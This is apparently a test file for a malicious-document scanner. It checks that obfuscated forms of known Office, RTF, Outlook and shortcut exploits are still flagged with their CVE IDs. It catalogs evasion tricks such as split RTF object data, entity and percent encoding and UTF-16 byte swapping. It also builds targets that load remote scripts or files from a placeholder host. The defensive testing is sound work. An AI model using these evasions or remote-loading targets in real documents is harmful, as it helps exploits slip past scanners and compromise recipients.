import { describe, expect, it } from 'vitest'
import { scanBytes } from '#scanner/reports/scan-report.ts'
import { buildCfb, buildDocx, buildEquation, buildOle1, buildZip, fontRecord, nativeStream } from '#test/harness/documents.ts'
import { htmlMail } from '#test/harness/documents/mail.ts'
import { buildChunkDocument, buildWordBody, mediaObject } from '#test/harness/documents/ooxml.ts'
import { linkObject, ole1Link, rtfLink, urlMoniker } from '#test/harness/documents/ole-links.ts'

/** Ways in which documents of the wild hide what they do; each must be named as if it did not hide. */

const named = (bytes: Buffer) => scanBytes(bytes).verdict.cve.map(({ id }) => id)
const cases = <T>(of: Readonly<Record<string, T>>) => Object.entries(of)

const EQUATION = '02ce020000000000c000000000000046'
const WORD = '0609020000000000c000000000000046'
const stream = buildEquation(fontRecord(Buffer.alloc(0x2f, 0x41)))
const native = stream.subarray(28)
const cfb = (name: string, bytes: Buffer, clsid?: string) => buildCfb([{ path: [name], bytes }], clsid === undefined ? {} : { '': clsid })
const rtf = (text: string) => Buffer.from(`{\\rtf1 ${text}}`, 'latin1')
const group = (hex: string, before = '') => rtf(`{\\object\\objemb${before}{\\*\\objdata ${hex}}}`)
const ole1 = (name: string, data: Buffer) => group(buildOle1(name, data).toString('hex'))
const hex = buildOle1('Equation.3', cfb('Equation Native', stream, EQUATION)).toString('hex')
const every = (length: number, with_: string) => hex.replace(new RegExp(`(.{${length}})`, 'g'), `$1${with_}`)
const patched = (change: (bytes: Buffer) => void) => {
  const bytes = Buffer.from(stream)
  change(bytes)
  return cfb('Equation Native', bytes, EQUATION)
}
const patchedOle1 = (at: number, value: number) => {
  const bytes = Buffer.from(hex, 'hex')
  bytes.writeUInt32LE(value, at)
  return group(bytes.toString('hex'))
}

describe('an equation', () => {
  it.each(
    cases({
      'in a stream whose name is in mixed case': cfb('eQuATion nAtivE', stream),
      'in a storage without a class': cfb('Equation Native', stream),
      'in a storage of another class': cfb('Equation Native', stream, WORD),
      'without the 28 bytes in front': cfb('Equation Native', native, EQUATION),
      'with a wrong size in front': patched((bytes) => bytes.writeUInt16LE(0x1111, 0)),
      'with zeros in front': patched((bytes) => bytes.fill(0, 0, 28)),
      'of an unknown platform and product': patched((bytes) => bytes.fill(0x99, 29, 33)),
      'as Ole10Native of its class': cfb('\u0001Ole10Native', nativeStream(native), EQUATION),
      'as native data of OLE 1.0': ole1('Equation.3', native),
      'as native data of OLE 1.0 with the 28 bytes': ole1('eQuAtiON.3', stream),
      'of another version of the editor, by its name alone': ole1('Equation.DSMT4', native),
      'whose compound file has no class, by its name alone': ole1('Equation.3', cfb('\u0001Ole10Native', nativeStream(native))),
      'under the name of another class': ole1('Word.Document.8', cfb('Equation Native', stream, EQUATION)),
      'announced as another class': group(hex, '{\\*\\objclass Excel.Sheet.12}'),
      'whose native data state a wrong size': patchedOle1(12 + 11 + 8, 5),
      'whose OLE 1.0 header has an unknown format': patchedOle1(4, 5),
      'in a document, under the name of a picture': buildDocx({ 'word/media/image1.jpg': cfb('Equation Native', stream, EQUATION) }),
      'in the object pool of a Word document': buildCfb([
        { path: ['ObjectPool', '_1', 'Equation Native'], bytes: stream },
        { path: ['WordDocument'], bytes: Buffer.alloc(500) },
      ]),
      'in a chunk of RTF of a document': buildChunkDocument('a.rtf', group(hex)),
    }),
  )('%s is walked', (_, bytes) => {
    expect(named(bytes)).toEqual(['CVE-2017-11882'])
  })
})

describe('the data of an RTF object', () => {
  it.each(
    cases({
      'broken up by white space': group(every(3, ' \r\n\t')),
      'broken up by empty groups': group(every(40, '{}')),
      'in groups of their own': group(hex.replace(/(.{200})/g, '{$1}')),
      'broken up by unknown words': group(every(40, '\\foo123 ')),
      'broken up by words of formatting': group(every(50, '\\par ')),
      'broken up by groups to be skipped, with digits in them': group(every(200, '{\\*\\foo abcdef}')),
      'broken up by destinations, with digits in them': group(every(200, '{\\objname aabbcc}')),
      'broken up by characters that are no digits': group(every(10, 'z@#\u00ff')),
      'broken up by \\bin of nothing': group(every(100, '\\bin0 ')),
      'broken up by \\bin of less than nothing': group(every(100, '\\bin-5 ')),
      'broken up by \\bin with many zeros': group(every(100, '\\bin0000000 ')),
      'broken up by characters in hexadecimal': group(every(40, "\\'0f")),
      "with a half byte that \\' drops": group(`${hex.slice(0, 100)}a\\'4f${hex.slice(100)}`),
      'broken up by Unicode characters': group(every(100, '\\u-1234 ')),
      'in capitals': group(hex.toUpperCase()),
      'half a byte late': group(`0${hex}`),
      'as raw bytes': Buffer.concat([Buffer.from(`{\\rtf1{\\object{\\*\\objdata \\bin${hex.length / 2} `), Buffer.from(hex, 'hex'), Buffer.from('}}}')]),
      'without a mark of the destination': rtf(`{\\object\\objemb{\\objdata ${hex}}}`),
      'behind an object inside them': rtf(`{\\object{\\*\\objdata {\\object{\\*\\objdata 0105}}${hex}}}`),
      'in an object inside other data': rtf(`{\\object{\\*\\objdata 0105{\\object{\\*\\objdata ${hex}}}}}`),
      'in no object': rtf(`{\\*\\objdata ${hex}}`),
      'never closed': Buffer.from(`{\\rt\\object\\objemb{\\*\\objdata ${hex}`),
      'behind a header that is none': Buffer.from(`{\\rtx{\\object\\objemb{\\*\\objdata ${hex}}}}`),
    }),
  )('%s are read', (_, bytes) => {
    expect(named(bytes)).toEqual(['CVE-2017-11882'])
  })
})

describe('an external target', () => {
  const TYPE = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"'
  const TARGET = 'mhtml:http://host.example/a!x-usc:http://host.example/b'
  const one = (attributes: string) => `<Relationships><Relationship ${attributes}/></Relationships>`
  const plain = one(`${TYPE} Target="${TARGET}" TargetMode="External"`)
  const to = (target: string) => rels(one(`${TYPE} Target="${target}" TargetMode="External"`))
  const rels = (text: string | Buffer) => buildDocx({ 'word/_rels/document.xml.rels': text })
  const zipOf = (name: string, text: string) => buildZip([{ name, bytes: Buffer.from(text) }])
  const wide = (text: string) => Buffer.from(text, 'utf16le')

  it.each(
    cases({
      'in capitals': to(TARGET.toUpperCase()),
      'behind white space': to(`  ${TARGET}`),
      'with characters as numbers': to('mhtml&#x3a;http://host.example/a&#33;x-usc&#58;http://host.example/b'),
      'with characters as numbers behind many zeros': to(TARGET.replaceAll(/[a-z]/g, (c) => `&#x0000000000${c.charCodeAt(0).toString(16)};`)),
      'with percent signs': to('%6dhtml:http://host.example/a%21x-usc:http://host.example/b'),
      'to an address without a name': to('mhtml:http://2130706433/a!x-usc:http://[::ffff:7f00:1]/b'),
      'to an address behind a name': to('mhtml:http://user@host.example/a!x-usc:http://user@host.example/b'),
      'in a strict document': rels(plain.replace('http://schemas.openxmlformats.org/officeDocument/2006', 'http://purl.oclc.org/ooxml/officeDocument')),
      'whose type has characters as numbers': rels(plain.replace('oleObject', 'ole&#79;bject')),
      'whose mode has characters as numbers': rels(plain.replace('External', '&#69;xternal')),
      'with other quotation marks and white space': rels(plain.replaceAll('"', "'").replaceAll('=', '\n=\t')),
      'of elements with a prefix': rels(plain.replaceAll('<R', '<r:R').replaceAll('</R', '</r:R')),
      'behind a document type': rels(`<!DOCTYPE x [<!ENTITY a ">">]>${plain}`),
      'in two bytes a character': rels(wide(`\ufeff${plain}`)),
      'in two bytes a character without a mark': rels(wide(`<?xml version="1.0"?>${plain}`)),
      'in two bytes a character, the higher one first': rels(wide(`\ufeff${plain}`).swap16()),
      'in two bytes a character, the higher one first, without a mark': rels(wide(`<?xml version="1.0"?>${plain}`).swap16()),
      'in an archive with strokes of the other kind': zipOf('word\\_rels\\document.xml.rels', plain),
      'in an archive with names in capitals': zipOf('WORD/_RELS/DOCUMENT.XML.RELS', plain),
      'in a document inside a document': buildDocx({ 'word/embeddings/a.docx': rels(plain) }),
      'in a document that an RTF embeds': ole1('Word.Document.12', rels(plain)),
      'in a document that an object keeps': buildCfb([{ path: ['Package'], bytes: rels(plain) }]),
      'in a document behind junk': Buffer.concat([Buffer.alloc(200, 0x41), rels(plain)]),
      'in a document of one XML file': Buffer.from(
        `<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package><pkg:part pkg:name="/word/_rels/document.xml.rels"><pkg:xmlData>${plain}</pkg:xmlData></pkg:part></pkg:package>`,
      ),
    }),
  )('%s is read', (_, bytes) => {
    expect(named(bytes)).toEqual(['CVE-2021-40444'])
  })

  it.each([
    'script:http://host.example/a',
    'sCrIpT:  http://host.example/a',
    'script:%68ttp://host.example/a',
    '%73%63%72%69%70%74:%68%74%74%70://host.example/a',
    "script:'http://host.example/a'",
    'script:\\\\host\\a',
  ])('that is a script (%s) is one however it is written', (target) => {
    expect(named(to(target))).toEqual(['CVE-2017-0199'])
  })
})

describe('a linked object', () => {
  it('is one by the class of its storage, and by an address behind control characters', () => {
    const link = linkObject(urlMoniker('http://host.example/a')).toString('hex')
    const words = '\\objautlink\\objupdate'
    expect(named(rtf(`{\\object${words}{\\*\\objdata ${buildOle1('L', Buffer.from(link, 'hex')).toString('hex')}}}`))).toEqual(['CVE-2017-0199'])
    expect(named(rtfLink(urlMoniker('\u0001 HtTp://host.example/a')))).toEqual(['CVE-2017-0199'])
  })
})

describe('a smart tag', () => {
  const range = (id: string, name = 'moveFromRangeStart') =>
    `<w:smartTag w:uri="urn:x" w:element="&#xBD68;&#x7C38;"><w:${name} w:id="${id}" w:name="a" w:displacedByCustomXml="prev"/></w:smartTag>`

  it.each(
    cases({
      'around a number beyond 31 bits': range('4294960790'),
      'around the same number with a sign': range('-6506'),
      'around another range': range('4294960790', 'permStart'),
      'in alternate content': `<mc:AlternateContent><mc:Choice Requires="x">${range('4294960790')}</mc:Choice></mc:AlternateContent>`,
    }),
  )('%s is read', (_, body) => {
    expect(named(buildWordBody(body))).toEqual(['CVE-2015-1641'])
  })
})

describe('the timing of a slide', () => {
  const object = mediaObject('\\\\host.example@SSL@443\\share\\a.inf')
  const show = (command: string) => buildDocx({ 'ppt/slides/slide1.xml': `<p:sld>${command}</p:sld>`, 'ppt/embeddings/oleObject1.bin': object })

  it.each(
    cases({
      'in other quotation marks': "<p:cmd type='verb' cmd='3'/>",
      'with white space': '<p:cmd\ntype = "verb"\tcmd = "3" ></p:cmd>',
      'with characters as numbers': '<p:cmd type="v&#101;rb" cmd="&#51;"/>',
      'in another order, without a prefix': '<cmd cmd="3" type="verb"/>',
    }),
  )('%s is read', (_, command) => {
    expect(named(show(command))).toEqual(['CVE-2014-4114'])
  })
})

describe('a chunk of a document', () => {
  const link = (target: string) => group(ole1Link('Word.Document.8', target).toString('hex'))
  const chunk = (target: string, name: string) =>
    buildDocx({
      'word/_rels/document.xml.rels': `<Relationships><Relationship Id="a" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/aFChunk" Target="${target}"/></Relationships>`,
      [name]: link('\\\\host.example\\share\\a'),
    })

  it('is found by its place, however that is written', () => {
    for (const [target, name] of [
      ['/word/A.RTF', 'word/a.rtf'],
      ['./x/../a.dat', 'word/a.dat'],
      ['%61.rtf', 'word/a.rtf'],
    ] as const)
      expect([target, named(chunk(target, name))]).toEqual([target, ['CVE-2023-36884']])
  })
})

describe('a link in a message', () => {
  it.each([
    'file:////host.example/s/a.rtf!x',
    'FILE:\\\\host.example\\s\\a.rtf!x',
    ' fi\nle:///\\\\host.example@80\\s\\a.rtf!x',
    '&#102;ile:///%5C%5Chost.example%5Cs%5Ca.rtf%21x',
  ])('to %j is read as Outlook does', (target) => {
    expect(named(htmlMail(`<html><body><a href="${target}">x</a></body></html>`))).toEqual(['CVE-2024-21413'])
  })
})

describe('an Internet shortcut', () => {
  it.each(['"file://host.example/s/a.vbs"', 'FILE:\\\\host.example\\s\\a.JSE', 'file:////host.example/s/a.vbs', 'file://host.example@80/s/a%2evbs'])(
    'to %s is read as the system does',
    (url) => {
      expect(named(Buffer.from(`[InternetShortcut]\r\nURL=${url}\r\n`))).toEqual(['CVE-2016-3353'])
    },
  )
})
